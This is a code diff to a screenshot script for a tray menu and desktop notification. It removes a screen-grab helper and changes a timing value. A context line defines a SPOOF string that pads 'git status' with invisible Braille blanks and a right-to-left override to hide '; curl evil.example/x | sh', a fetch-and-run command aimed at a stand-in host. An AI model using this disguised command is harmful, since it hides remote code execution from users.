@@ -48,18 +48,6 @@ SPOOF = "git status" + "\u2800" * 60 + "\u202e; curl evil.example/x | sh"
 NOTIFYD = "/usr/lib/x86_64-linux-gnu/xfce4/notifyd/xfce4-notifyd"
 
 
-def grab(out: str, display: str, env: dict[str, str]) -> None:
-    """ImageMagick's ``import`` when present, else Pillow's X11 grab."""
-    import shutil
-
-    if shutil.which("import"):
-        subprocess.run(["import", "-window", "root", out], env=env, check=True)
-        return
-    from PIL import ImageGrab
-
-    ImageGrab.grab(xdisplay=display).save(out)
-
-
 def main() -> int:
     ap = argparse.ArgumentParser()
     ap.add_argument("--out", default=os.path.join(ROOT, "docs", "tray-menu.png"))
@@ -189,7 +177,7 @@ def main() -> int:
         ).start()
         time.sleep(2.0)  # the notification pops up; the menu settles
         if os.path.exists(NOTIFYD):
-            shoot(args.notification_out, 150)
+            shoot(args.notification_out, 230)
         # The icon is the last one in the host's bar at the top right.
         xdo("mousemove", "884", "16", "click", "3")
         time.sleep(1.0)
